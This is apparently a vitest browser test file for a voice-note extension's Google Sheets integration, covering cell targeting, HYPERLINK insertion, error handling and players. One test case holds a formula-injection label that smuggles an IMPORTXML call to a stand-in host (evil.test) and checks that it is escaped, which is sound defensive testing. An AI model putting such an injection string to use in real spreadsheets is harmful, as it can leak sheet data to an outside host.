import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { page } from 'vitest/browser';
import {
  integrationContract,
  LINK,
  MOTE,
  MOTE_ID,
  type RunningHost,
  runOn,
  selectorsContract,
} from '@/tests/contract/integration.ts';
import { GSHEETS_PATH, GsheetsHost } from '@/tests/hosts/gsheets/gsheets-host.ts';
import { openFrame } from '@/tests/hosts/harness/open-frame.ts';
import { gsheets } from './index.ts';
import { GSHEETS } from './selectors.ts';

const openHost = async () => {
  const frame = await openFrame('gsheets/grid', GSHEETS_PATH);
  return { frame, host: new GsheetsHost(frame.drive) };
};

// Its editors are comments: a cell has no caret, and there is one at a time. Cells are proved below.
describe('[S1-039] gsheets', () => {
  integrationContract(gsheets, openHost);
});
selectorsContract(GSHEETS, openHost);

const PLACE = 'cell:1AbC-stand-in/0';
const idOf = (address: string) => `${PLACE}!${address}`;
const HYPERLINK = `=HYPERLINK("${LINK}";"Voice note for Sam")`;

describe('gsheets, its own ways', () => {
  let on: RunningHost<GsheetsHost>;
  const insert = (targetId: string, insertion = MOTE) => on.ports.insert({ targetId, insertion });
  const cell = async (address: string) => {
    const { cells, gid } = await on.host.model();
    return cells[gid]?.[address] ?? '';
  };
  const dom = () => on.frame.window.document;
  const cellButton = async () => {
    await vi.waitFor(() => expect(on.placementIds()).toEqual([PLACE]));
    const [button] = on.buttons();
    if (!button) throw new Error('There is no button');
    return button;
  };

  beforeEach(async () => {
    await page.viewport(1200, 800);
    on = runOn(gsheets, await openHost());
  });
  afterEach(async () => {
    expect(await on.host.pageErrors()).toEqual([]);
    on.ports.invalidate();
    on.frame.close();
  });

  describe('the active cell', () => {
    it('one control at the end of the formula bar; a labelled link in the cell, which Sheets has kept', async () => {
      await on.host.select('B2');
      await cellButton();
      expect(dom().querySelector('[data-mote-placement]')?.previousElementSibling?.id).toBe(
        't-formula-bar-input-container',
      );
      const result = await insert(idOf('B2'));
      expect(result).toMatchObject({ ok: true, value: { targetId: idOf('B2') } });
      expect(await cell('B2')).toBe(HYPERLINK);
      expect((await on.host.model()).reads).toBeGreaterThan(0);
    });

    it('the stand-in throws away what is typed: a technique that types would fail here', async () => {
      await on.host.select('B2');
      await on.host.typeInCell(LINK);
      expect(dom().querySelector('#t-formula-bar-input')?.textContent).toBe(LINK);
      await on.host.pressEnter();
      expect(await cell('B2')).toBe('');
    });

    it('[S1-039] fills the cell that is active at the click, though nothing in the page said that it changed', async () => {
      await on.host.select('B2');
      const button = await cellButton();
      await on.host.select('B3');
      await on.click(button);
      expect(on.ports.starts).toEqual([
        { application: 'gsheets', applicationView: 'gsheets-default', placementId: PLACE, targetId: idOf('B3') },
      ]);
      await vi.waitFor(() => expect(on.frames('recorder.html')).toHaveLength(1));
      expect(await insert(idOf('B3'))).toMatchObject({ ok: true });
      expect(await cell('B2')).toBe('');
      expect(await cell('B3')).toBe(HYPERLINK);
    });

    it('the shortcut records into the cell that has the focus', async () => {
      await on.host.select('C7');
      await cellButton();
      on.ports.command({ type: 'start-recording' });
      expect(on.ports.starts[0]?.targetId).toBe(idOf('C7'));
    });

    it('a person who went to another cell, or to another sheet, while recording: target-gone, nothing written', async () => {
      await on.host.select('B2');
      await on.host.select('B3');
      expect(await insert(idOf('B2'))).toEqual({ ok: false, error: 'target-gone' });
      await on.host.openSheet('77');
      await on.host.select('B2');
      expect(await insert(idOf('B2'))).toEqual({ ok: false, error: 'target-gone' });
      expect((await on.host.model()).cells).toEqual({ 0: {}, 77: {} });
    });

    it('what stands in a cell, or is being typed there, is never written over', async () => {
      await on.host.select('B2');
      await on.host.fill('B2', '7/10');
      expect(await insert(idOf('B2'))).toEqual({ ok: false, error: 'target-gone' });
      await on.host.select('B3');
      await on.host.typeInCell('half a wo');
      expect(await insert(idOf('B3'))).toEqual({ ok: false, error: 'target-gone' });
      expect((await on.host.model()).cells[0]).toEqual({ B2: '7/10' });
    });

    it('a range is no cell: the click records, and the link is copied', async () => {
      await on.host.select('B2:D5');
      await on.click(await cellButton());
      expect(on.ports.starts[0]?.targetId).toBe('');
      expect(await insert(idOf('B2'))).toEqual({ ok: false, error: 'target-gone' });
    });

    it.each([
      ['a protected range', 'protect'],
      ['a grid that does not hear', 'deafenGrid'],
      ['a grid that takes it as typed, in the formula bar only', 'holdPastes'],
    ] as const)('%s: no success, no question to the export', async (_name, misbehave) => {
      await on.host.select('B2');
      await on.host[misbehave]();
      expect(await insert(idOf('B2'))).toMatchObject({ ok: false, error: 'rejected-by-host' });
      expect(await cell('B2')).toBe('');
      expect((await on.host.model()).reads).toBe(0);
    });

    it.each([
      ['too many reads (429)', 'exportIsBusy'],
      ['an export that is switched off', 'exportIsForbidden'],
    ] as const)('%s: not confirmed is no success', async (_name, misbehave) => {
      await on.host.select('B2');
      await on.host[misbehave]();
      expect(await insert(idOf('B2'))).toMatchObject({ ok: false, error: 'rejected-by-host' });
      expect((await on.host.model()).reads).toBe(1);
    });

    it('an export that is a moment behind is asked again, past its cache; one that stays behind is no success', async () => {
      await on.host.select('B2');
      await on.host.exportLags(1);
      expect(await insert(idOf('B2'))).toMatchObject({ ok: true });
      expect((await on.host.model()).reads).toBe(2);
      await on.host.select('B3');
      await on.host.exportLags(99);
      expect(await insert(idOf('B3'))).toMatchObject({ ok: false, error: 'rejected-by-host' });
      expect(await cell('B3')).toBe(HYPERLINK);
    });

    it('a file whose locale takes semicolons only, as ours is', async () => {
      await on.host.separators(';');
      await on.host.select('B2');
      expect(await insert(idOf('B2'))).toMatchObject({ ok: true });
      expect(await cell('B2')).toBe(HYPERLINK);
    });

    it('a locale that takes none: the cell showed an error, the bare link stands instead', async () => {
      await on.host.separators(',');
      await on.host.select('B2');
      expect(await insert(idOf('B2'))).toMatchObject({ ok: true });
      expect(await cell('B2')).toBe(LINK);
    });

    it.each([
      ['quotes', 'He said "well done"', `=HYPERLINK("${LINK}";"He said ""well done""")`],
      [
        'a formula of its own',
        '")&IMPORTXML("https://evil.test";"',
        `=HYPERLINK("${LINK}";""")&IMPORTXML(""https://evil.test"";""")`,
      ],
      ['tabs and line feeds', 'one\ttwo\nthree', `=HYPERLINK("${LINK}";"one two three")`],
      ['a sign that errors begin with', '#1 of 3, "good"', `=HYPERLINK("${LINK}";"#1 of 3, ""good""")`],
      ['more than a cell should show', 'x'.repeat(300), LINK],
    ])('a label with %s stays in its cell', async (_name, label, entered) => {
      await on.host.select('B2');
      expect(await insert(idOf('B2'), { kind: 'mote', link: LINK, label, note: null })).toMatchObject({ ok: true });
      expect((await on.host.model()).cells[0]).toEqual({ B2: entered });
    });

    it.each(['=1+1', '-5 points', '"quoted"', 'Well\tdone'])('plain words stay words: %s', async (text) => {
      await on.host.select('AB12');
      expect(await insert(idOf('AB12'), { kind: 'text', text })).toMatchObject({ ok: true });
      const { cells } = await on.host.model();
      expect(Object.keys(cells[0] ?? {})).toEqual(['AB12']);
      expect((await cell('AB12')).replace(/^'/, '')).toBe(text.replace('\t', ' '));
    });

    it('other columns with commas and quotes do not shift the one that is read', async () => {
      await on.host.fill('A2', 'Rivera, "Sam"\nYear 7');
      await on.host.fill('A1', 'Name');
      await on.host.select('C2');
      expect(await insert(idOf('C2'))).toMatchObject({ ok: true });
    });

    it('view only: no control, no target', async () => {
      await on.host.asViewOnly();
      await on.host.select('B2');
      await on.host.nextFrame();
      expect(on.placementIds()).toEqual([]);
      expect(await insert(idOf('B2'))).toEqual({ ok: false, error: 'target-gone' });
    });

    it('100 re-renders of the bar: one control, none twice', async () => {
      await on.host.select('B2');
      await cellButton();
      await on.host.churn(100);
      expect(on.placementIds()).toEqual([PLACE]);
      expect(await on.host.injectedCount()).toBe(1);
    });

    it('a bar that changed its name: a control that floats, into the same cell', async () => {
      await on.host.select('B2');
      dom().querySelector('#t-formula-bar-input-container')?.setAttribute('id', 'zz');
      await on.host.openComment();
      await on.host.closeEditor();
      await vi.waitFor(() => expect(on.placementIds()).toEqual(['floating']), { timeout: 3_000 });
    });

    it('a cell whose parts are lost is said to be broken', async () => {
      await on.host.select('B2');
      dom().querySelector('#waffle-rich-text-editor')?.remove();
      const { rung } = gsheets.status({ document: dom(), url: new URL(dom().location.href) });
      expect(rung).toBe('copy-link');
    });
  });

  describe('players', () => {
    it('in the card of a cell with a link, one for each as cells are gone through', async () => {
      const other = LINK.replace(MOTE_ID, '0123456789abcdefH');
      await on.host.fill('B2', HYPERLINK);
      await on.host.fill('B3', other);
      await on.host.select('B2');
      const players = () =>
        [...dom().querySelectorAll('.waffle-multilink-tooltip [data-mote-player]')].map((player) =>
          player.getAttribute('data-mote-player'),
        );
      await vi.waitFor(() => expect(players()).toEqual([MOTE_ID]));
      await on.host.select('B3');
      await vi.waitFor(() => expect(players()).toEqual(['0123456789abcdefH']));
      await on.host.select('B2');
      await vi.waitFor(() => expect(players()).toEqual([MOTE_ID]));
      expect(await on.host.playerCount()).toBe(1);
    });

    it('a column is one player: who listens to one cell goes on with the next, also past a cell without a link', async () => {
      const other = LINK.replace(MOTE_ID, '0123456789abcdefH');
      await on.host.fill('B2', HYPERLINK);
      await on.host.fill('B4', other);
      const playerOf = async (cellAddress: string, moteId: string) => {
        await on.host.select(cellAddress);
        await vi.waitFor(() => expect(on.frames('player.html')[0]?.src).toContain(`id=${moteId}`));
        return new URLSearchParams(on.frames('player.html')[0]?.src.split('?')[1]).get('playerId');
      };
      const first = await playerOf('B2', MOTE_ID);
      expect(first).toMatch(/^[0-9a-f]{16}$/);
      await on.host.select('B3');
      expect(await playerOf('B4', '0123456789abcdefH')).toBe(first);
      await on.host.comment(`Listen: ${LINK}`);
      await vi.waitFor(() => expect(on.frames('player.html')).toHaveLength(2));
      const ids = on.frames('player.html').map(({ src }) => new URLSearchParams(src.split('?')[1]).get('playerId'));
      expect(new Set(ids).size).toBe(2);
    });

    it('none in the card of a link of somebody else', async () => {
      await on.host.fill('B2', 'https://evil.test/m/0123456789abcdefG');
      await on.host.select('B2');
      await on.host.nextFrame();
      expect(await on.host.playerCount()).toBe(0);
    });

    it('in posted comments, also behind google.com/url', async () => {
      await on.host.comment(`Listen: ${LINK}`);
      await vi.waitFor(() => expect(on.frames('player.html')).toHaveLength(1));
    });
  });

  it('a comment of another sheet is another place', async () => {
    await on.host.openComment();
    await vi.waitFor(() => expect(on.placementIds()).toEqual(['1AbC-stand-in/0/new']));
    await on.host.openSheet('77');
    await on.host.openComment();
    expect(await insert('1AbC-stand-in/0/new')).toEqual({ ok: false, error: 'target-gone' });
    expect(await on.host.modelText()).toBe('');
  });

  it.each([
    ['https://docs.google.com/spreadsheets/d/1a-B_c/edit#gid=12', 'gsheets-default'],
    ['https://docs.google.com/spreadsheets/u/1/d/1a-B_c/edit?gid=0#gid=0&range=B2', 'gsheets-default'],
    ['https://docs.google.com/a/school.org/spreadsheets/d/1a-B_c/edit', 'gsheets-default'],
    ['https://docs.google.com/spreadsheets/u/0/', null],
    ['https://docs.google.com/spreadsheets/d/1a-B_c/export?format=csv', null],
    ['https://docs.google.com/document/d/1a-B_c/edit', null],
  ])('%s is %s', (url, view) => {
    expect(gsheets.viewOf({ document: dom(), url: new URL(url) })).toBe(view);
  });
});
